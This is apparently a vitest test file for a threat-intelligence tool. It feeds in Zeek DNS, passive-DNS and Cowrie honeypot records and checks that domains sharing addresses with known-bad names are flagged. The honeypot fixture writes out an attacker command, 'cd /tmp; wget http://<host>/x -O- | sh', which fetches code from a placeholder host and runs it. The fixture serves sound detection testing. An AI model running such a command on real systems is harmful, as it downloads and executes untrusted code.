import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSystem, type System } from '../../../test/setup/commands.ts';
import { Beginnings } from './beginnings.ts';
import { readPlace } from './place.ts';

let system: System;
const folder = mkdtempSync(join(tmpdir(), 'caltrop-begun-'));
const daySeconds = 86_400;
const began = (Math.floor(Date.now() / 1_000 / daySeconds) - 12) * daySeconds;
const dayAt = (day: number) => began / daySeconds + day;

const dns = (day: number, query: string, ip: string) => ({
  ...{
    ts: began + day * daySeconds,
    uid: `D${query}`,
    proto: 'udp',
    'id.orig_h': '10.1.2.3',
    'id.orig_p': 4,
  },
  ...{ 'id.resp_h': '10.1.2.53', 'id.resp_p': 53, qtype_name: 'A', rcode_name: 'NOERROR' },
  ...{ query, answers: [ip], TTLs: [600] },
});
const cof = (first: number, last: number, rrname: string, rdata: string) => ({
  ...{ rrname, rrtype: 'A', rdata, count: 2 },
  ...{ time_first: began + first * daySeconds, time_last: began + last * daySeconds },
});

async function write(name: string, format: string, rows: object[]): Promise<void> {
  const path = join(folder, name);
  writeFileSync(path, `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`);
  expect((await system.run('import', '--format', format, path)).code).toBe(0);
}
const says = async (name: string) =>
  ((await system.pipeline.domains.show(name))?.reasons ?? []).map(({ says }) => says).join('; ');

const bad = [0, 1, 2, 3].map((n) => `load${n}.example`);
const drops = [0, 1, 2, 3].map((n) => `drop${n}.example`);

beforeAll(async () => {
  system = await openSystem();
  const head = { src_ip: '192.0.2.7', session: 'aa1', sensor: 'd', protocol: 'ssh' };
  const at = (second: number) => ({ timestamp: new Date((began + second) * 1_000).toISOString(), ...head });
  await write('cowrie.json', 'cowrie', [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22, ...at(0) },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x', ...at(1) },
    ...[...bad, ...drops].map((name, n) => ({
      ...{ eventid: 'cowrie.command.input', input: `cd /tmp; wget http://${name}/x -O- | sh` },
      ...at(2 + n),
    })),
    { eventid: 'cowrie.session.closed', duration_ms: 9_000, ...at(20) },
  ]);
}, 240_000);
afterAll(async () => {
  await system?.close();
  rmSync(folder, { recursive: true, force: true });
});

it('holds back the first day of a network, though a few older records lie beside it', async () => {
  await write('old.log', 'zeek-dns', [dns(-30, 'www.old.example', '198.51.100.250')]);
  await write('dns.log', 'zeek-dns', [
    ...Array.from({ length: 30 }, (_, n) => dns(n % 8, `www.shop${n}.example`, `198.51.100.${n}`)),
    // Bad names were pointed at the bank before anybody looked; they hire an address of their own later.
    ...bad.map((name) => dns(0, name, '203.0.113.9')),
    dns(0, 'www.bank.example', '203.0.113.9'),
    ...bad.map((name) => dns(6, name, '203.0.113.77')),
    dns(8, 'www.newcomer.example', '203.0.113.77'),
  ]);
  expect(await says('www.bank.example')).not.toContain('are known to be bad');
  expect(await says('www.newcomer.example')).toContain('domains at 203.0.113.77 are known to be bad');
  expect(new Beginnings(readPlace(system.data).beginnings).days()).toEqual([dayAt(-30), dayAt(0)]);
}, 120_000);

it('knows of passive DNS since when a name was there, not only when it was seen last', async () => {
  await write('pdns.json', 'passive-dns', [
    cof(-600, 4, 'www.start.example', '198.51.100.251'),
    cof(-400, 8, 'www.museum.example', '203.0.113.120'),
    ...drops.map((name) => cof(-5, 3, name, '203.0.113.120')),
    ...drops.map((name) => cof(-5, 7, name, '203.0.113.121')),
    cof(-2, 8, 'www.guest.example', '203.0.113.121'),
  ]);
  expect(await says('www.museum.example')).not.toContain('are known to be bad');
  expect(await says('www.guest.example')).toContain('domains at 203.0.113.121 are known to be bad');
  expect((await system.pipeline.domains.show('www.museum.example'))!.firstDay).toBe(dayAt(-400));
  expect(new Beginnings(readPlace(system.data).beginnings).days()).toEqual([
    dayAt(-600),
    dayAt(-30),
    dayAt(0),
  ]);
}, 120_000);

it('reads all anew where it was not kept when sources began', () => {
  const path = join(system.data, 'reputation', 'place.json');
  const { beginnings, ...before } = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
  writeFileSync(path, JSON.stringify(before));
  expect(readPlace(system.data)).toMatchObject({ all: true, beginnings: { days: [], sources: [] } });
  writeFileSync(path, JSON.stringify({ ...before, beginnings }));
  expect(readPlace(system.data)).toMatchObject({ all: false, beginnings });
});
